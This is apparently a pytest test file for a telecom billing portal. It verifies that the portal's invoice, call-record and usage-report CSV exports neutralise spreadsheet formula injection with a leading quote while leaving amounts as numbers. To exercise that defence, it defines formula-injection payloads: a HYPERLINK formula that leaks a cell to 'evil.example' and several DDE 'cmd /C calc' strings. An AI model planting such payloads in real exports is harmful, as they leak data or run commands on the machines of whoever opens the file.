"""Spreadsheet formula injection: every CSV the portal writes shows text that starts a formula as text, numbers
as numbers.

OWASP "CSV Injection": a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is
run as a formula by spreadsheets; it is written with a leading single quote instead.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import update

from portal.delivery.invoice_files import cdrs_file
from portal.delivery.usage_reports import usage_report_csv
from portal.documents.csv import spreadsheet_safe
from portal.extensions import db
from portal.models import Network, UsageReportProfile
from tests.bulk import approved_invoices
from tests.documents.conftest import START, make_invoice
from tests.factories import AccountFactory, CdrFactory, CustomerUserFactory

PORTAL = Path(__file__).resolve().parents[2] / "portal"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_CMD = "-2+3*cmd|' /C calc'!A0"
PLUS_CMD = "+1+cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, AT_SUM, MINUS_CMD, PLUS_CMD, "\t=1+1", "\r=1+1", "=", "-", "+", "@"]
# A spreadsheet reads these as what they are; nothing to neutralise.
PLAIN = ["-12.50", "12.50", "+4930123456", "-0.000001", "0", ".5", "", "Acme Voice", "a=b", "1+1", "2026-05-01"]


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_starts_a_formula_gets_a_leading_quote(payload):
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", PLAIN + [Decimal("-12.50"), -3, 0, 1.5, None])
def test_numbers_and_plain_text_are_left_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_the_invoice_list_csv_neutralises_names_and_keeps_amounts(app, client, login):
    account = AccountFactory(name=HYPERLINK)
    [invoice] = approved_invoices(account, 1)
    invoice.reference = AT_SUM
    # A credit: the amounts the portal writes itself are negative decimals and must stay numbers.
    invoice.total_amount = invoice.net_amount = invoice.outstanding = Decimal("-12.50")
    user = CustomerUserFactory(customer=account.customer)
    db.session.commit()
    login(user)
    [header, row] = table(client.get("/portal/invoices.csv").get_data(as_text=True))
    cells = dict(zip(header, row))
    assert cells["account"] == "'" + HYPERLINK
    assert cells["reference"] == "'" + AT_SUM
    assert (cells["net"], cells["total"], cells["outstanding"], cells["paid"]) == ("-12.50", "-12.50", "-12.50", "0.00")


@pytest.fixture
def invoice_with_hostile_numbers(app):
    """An approved invoice whose calls come from and go to numbers that are formulas (and one plain number)."""
    account = AccountFactory()
    [invoice] = approved_invoices(account, 1)
    day = invoice.start_date
    CdrFactory(customer_acc_id=account.id, time_start=day, src_number=AT_SUM, dst_number=MINUS_CMD)
    CdrFactory(
        customer_acc_id=account.id, time_start=day + dt.timedelta(minutes=1), src_number=PLUS_CMD, dst_number="\t=1+1"
    )
    CdrFactory(
        customer_acc_id=account.id,
        time_start=day + dt.timedelta(minutes=2),
        src_number="+4930123456",
        dst_number="4915112345678",
        customer_price=Decimal("0.250000"),
    )
    user = CustomerUserFactory(customer=account.customer)
    db.session.commit()
    return invoice, user


def assert_numbers_neutralised(rows: list[list[str]]) -> None:
    assert [row[1:3] for row in rows[1:]] == [
        ["'" + AT_SUM, "'" + MINUS_CMD],
        ["'" + PLUS_CMD, "'\t=1+1"],
        ["+4930123456", "4915112345678"],
    ]
    assert Decimal(rows[3][9]) == Decimal("0.25") and not rows[3][9].startswith("'")


def test_the_cdr_csv_neutralises_caller_and_called_numbers(invoice_with_hostile_numbers, client, login):
    invoice, user = invoice_with_hostile_numbers
    login(user)
    assert_numbers_neutralised(table(client.get(f"/portal/invoices/{invoice.uuid}/cdrs.csv").get_data(as_text=True)))


def test_the_emailed_cdr_file_neutralises_caller_and_called_numbers(invoice_with_hostile_numbers):
    invoice, _user = invoice_with_hostile_numbers
    _name, _type, data = cdrs_file(invoice)
    assert_numbers_neutralised(table(data.decode("utf-8")))


@pytest.mark.parametrize("group_by", ["destination", "network"])
def test_the_usage_report_neutralises_names(app, group_by):
    invoice = make_invoice(destinations=1)
    db.session.execute(update(Network).values(name=HYPERLINK))
    db.session.commit()
    _filename, data = usage_report_csv(invoice, UsageReportProfile(name="report", group_by=group_by))
    [header, *rows] = table(data.decode("utf-8"))
    spent = next(dict(zip(header, row)) for row in rows if row[0] == "originated")
    assert spent["network"] == "'" + HYPERLINK
    assert spent["amount"] == str(Decimal(spent["amount"])) and spent["first_call_utc"].startswith(
        START.date().isoformat()
    )


def test_every_csv_writer_is_the_spreadsheet_safe_one():
    """One writer for every CSV: `csv.writer`/`csv.DictWriter` appear only in portal/documents/csv.py."""
    offenders = []
    for path in PORTAL.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.relative_to(PORTAL.parent)}:{node.lineno}")
    assert [offender.split(":")[0] for offender in offenders] == ["portal/documents/csv.py"], offenders
